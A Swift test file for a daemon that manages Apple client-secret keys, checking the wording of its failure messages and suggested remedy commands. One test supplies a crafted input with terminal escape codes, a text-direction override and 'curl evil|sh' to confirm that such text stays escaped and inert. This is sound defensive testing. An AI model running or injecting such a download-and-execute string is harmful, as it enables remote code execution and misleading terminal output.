import AppleClientSecret
import Failures
import Model
import Rotation
import Testing

/// How a failure is said: its words are the page of failures'.
@Suite struct FailureTests {
    @Test(arguments: [
        (Failure.Code.keyWrongPassphrase, "openssl pkey -in /d/f.p8 -noout"),
        (
            .keyTooCostly,
            "test ! -e /d/f.p8.old && test ! -e /d/f.p8.new && cp -p --remove-destination /d/f.p8 /d/f.p8.new && { openssl pkcs8 -topk8 -iter 600000 -in /d/f.p8 >/d/f.p8.new || { rm /d/f.p8.new; false; }; } && cp -p --remove-destination /d/f.p8 /d/f.p8.old && mv /d/f.p8.new /d/f.p8"
        ),
        (.sourceStale, "ls -ld /d/f.p8"), (.sourceWrong, "clientsecretd inspect /d/f.p8"),
        (.sourceMissing, "ls -ld /d/f.p8"), (.sourceUnreadable, "namei -l /d/f.p8"),
        (.credentialMissing, "LoadCredential=apple-key:/path/to/file"),
        (.permissionDenied, "namei -l /d/f.p8"), (.readOnlyFileSystem, "ReadWritePaths=-/d"),
        (.diskFull, "df -h --output /d"), (.changedMeanwhile, "inotifywait -m /d"), (.contested, "inotifywait -m /d"),
        (.openForWriting, "fuser -v /d/f.p8"),
        (.systemError, "namei -l /d/f.p8"), (.actionFailed, "systemctl status a.service"),
        (.unitMasked, "systemctl unmask a.service"), (.unitRefused, "systemctl status a.service"),
        (.unitFailed, "systemctl start a.service"), (.unitEnded, "systemctl status a.service"),
        (.jobFailed, "systemctl status a.service"), (.jobTimedOut, "systemctl status a.service"),
        (.jobCanceled, "systemctl status a.service"), (.jobDependency, "systemctl list-dependencies a.service"),
        (.jobSkipped, "systemctl status a.service"), (.noSecret, "clientsecretd renew web"),
        (.secretUnacceptable, "clientsecretd renew web"), (.secretExpired, "clientsecretd renew web"),
        (.secretExpiring, "clientsecretd renew web"), (.notPublished, "clientsecretd renew --deliver-only web"),
        (.notDelivered, "clientsecretd renew --deliver-only web"),
        (.rolloutHeld, "clientsecretd rollout show web"),
        (.pushServiceMissing, "systemctl enable --now clientsecretd-push@production.socket"),
        (.pushServiceSilent, "journalctl -u clientsecretd-push@production.service"),
    ])
    func aRemedyNamesItsPlace(code: Failure.Code, words: String) throws {
        let failure = Failure(code, at: try #require(Self.place(of: code)))
        #expect(failure.remedy?.description.contains(words) == true, "\(failure.sentence)")
    }

    @Test func messagesNameDetailAndCause() throws {
        let path = Failure.Place.path(try #require(AbsolutePath("/srv/a b/web.jwt")))
        #expect(
            Failure(.permissionDenied, at: path, cause: 13, detail: "/srv/a b belongs to alice (1000)").message
                == "/srv/a b/web.jwt: access is denied to the user that reads or writes it: /srv/a b belongs to alice (1000) (permission denied)"
        )
        #expect(
            Failure(.systemError, at: path, cause: 4095).sentence
                == "/srv/a b/web.jwt: the system refused (errno 4095); "
                + "check the path and its owners (namei -l '/srv/a b/web.jwt')")
        #expect(Failure(.ioError, at: path, cause: 116, detail: "").message.hasSuffix("fails (stale file handle)"))
        #expect(Failure(.diskFull, at: path).remedy?.description == "free some space (df -h --output '/srv/a b')")
        let top = Failure.Place.path(try #require(AbsolutePath("/web.jwt")))
        #expect(Failure(.diskFull, at: top).remedy?.description == "free some space (df -h --output /)")
    }

    /// A thread, by the limit's own code; a program, by the code of an action.
    @Test func whatCannotBeStartedNamesTheLimit() {
        let thread = Failure.Place.named("worker thread")
        #expect(
            Failure.notStarted(at: thread, cause: 11).sentence
                == "worker thread: no further thread or process can be started (temporarily unavailable); "
                + "raise TasksMax= or LimitNPROC= of the daemon's unit, or end processes that actions have left running"
        )
        #expect(Failure.notStarted(at: thread, cause: 12).code == .outOfMemory)
        #expect(Failure.notStarted(at: thread, cause: 22).code == .systemError)
        #expect(
            Failure(.outOfDescriptors, at: thread, cause: 23).sentence
                == "worker thread: too many files are open (too many files open on this machine); "
                + "raise the sysctl fs.file-max, or end the program that has so many files open")
        let hook = Failure.Place.action(ActionID("exec /bin/hook"))
        #expect(
            Failure.notStarted(.actionNotStarted, at: hook, cause: 11, detail: "/bin/hook").sentence
                == "exec /bin/hook: could not be started: no further thread or process can be started "
                + "(temporarily unavailable); "
                + "raise TasksMax= or LimitNPROC= of the daemon's unit, or end processes that actions have left running"
        )
        let other = Failure.notStarted(.actionNotStarted, at: hook, cause: 13, detail: "/bin/hook")
        #expect(other == Failure(.actionNotStarted, at: hook, cause: 13, detail: "/bin/hook"))
    }

    @Test func aFailuresOwnRemedyGoesBeforeItsCodes() throws {
        let path = Failure.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
        let failure = Failure(
            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .say("close it", run: .reload))
        #expect(
            failure.message == "/srv/web.jwt: other users may write to a directory in its path: /srv (not permitted)")
        #expect(failure.remedy?.command == "clientsecretd reload")
        #expect(failure.sentence == failure.message + "; close it: clientsecretd reload")
        #expect(Failure(.unguardedDirectory, at: path).remedy?.command == nil)
    }

    /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
    func wordsOfOthersAreNeverARemedy(code: Failure.Code) throws {
        let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
        let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
        let detailed = Failure(code, at: try #require(Self.place(of: code)), detail: evil)
        #expect(detailed.message.contains(": " + escaped))
        #expect(detailed.remedy?.description.contains("curl evil") != true)
        let placed = Failure(code, at: .path(try #require(AbsolutePath(evil))))
        #expect(placed.message.hasPrefix(escaped))
        #expect(placed.remedy?.command?.contains("evil") != true)
        for text in [detailed.sentence, placed.sentence] {
            #expect(text.unicodeScalars.allSatisfy { !$0.isUnprintable })
        }
    }

    @Test func theCommandFitsThePlace() throws {
        let exec = Action.exec(arguments: ["/usr/bin/hook", "a b"], timeout: 30).id
        #expect(
            Failure(.actionFailed, at: .action(exec), detail: "exit status 3").sentence
                == "exec /usr/bin/hook 'a b': failed: exit status 3; read what it printed, or run it by hand as the daemon's user: "
                + "/usr/bin/hook 'a b' (journalctl -u clientsecretd)"
        )
        let signal = Action.signal(unit: "a.service", signal: "SIGHUP").id
        #expect(
            Failure(.actionFailed, at: .action(signal)).remedy?.description == "see why (systemctl status a.service)")
        #expect(
            Failure(.systemError, at: .named("credential socket"), cause: 22).remedy?.description
                == "see what came before it (journalctl -u clientsecretd)")
        let path = Failure.Place.path(try #require(AbsolutePath("/run/web.jwt")))
        #expect(Failure(.noSecret, at: path).remedy?.description == "clientsecretd renew")
        #expect(
            Failure(.unknownGroup, at: path, detail: "www").remedy?.description
                == "correct the name, or add the group")
    }

    /// A place of the kind that the code is about.
    private static func place(of code: Failure.Code) -> Failure.Place? {
        switch code {
        case .credentialMissing: .credential("apple-key")
        case .signingFailed, .selfCheckFailed, .noSecret, .secretUnacceptable, .secretExpired, .secretExpiring,
            .renewalOverdue, .noOutputs, .signatureUnchecked, .notPublished, .notDelivered, .refusedByApple,
            .verdictUnknown, .verifierMissing, .verifierSilent, .rolloutHeld:
            ClientName("web").map { .client($0) }
        case .keyNeedsPassphrase, .keyChanged, .publicKeyUnusable: KeyName("apple").map { .key($0) }
        case .unknownUser, .unknownGroup: .named("www data")
        case .unitCannotStart, .unitMismatch: AbsolutePath("/d/f.p8").map { .path($0) }
        case .busUnreachable: .action(ActionID("restart a.service"))
        default:
            switch code.rawValue.prefix(while: { $0 != "_" }) {
            case "clock": .clock
            case "push": .named("production")
            case "store": .store
            case "action", "job", "polkit", "unit": .action(ActionID("restart a.service"))
            default: AbsolutePath("/d/f.p8").map { .path($0) }
            }
        }
    }
}
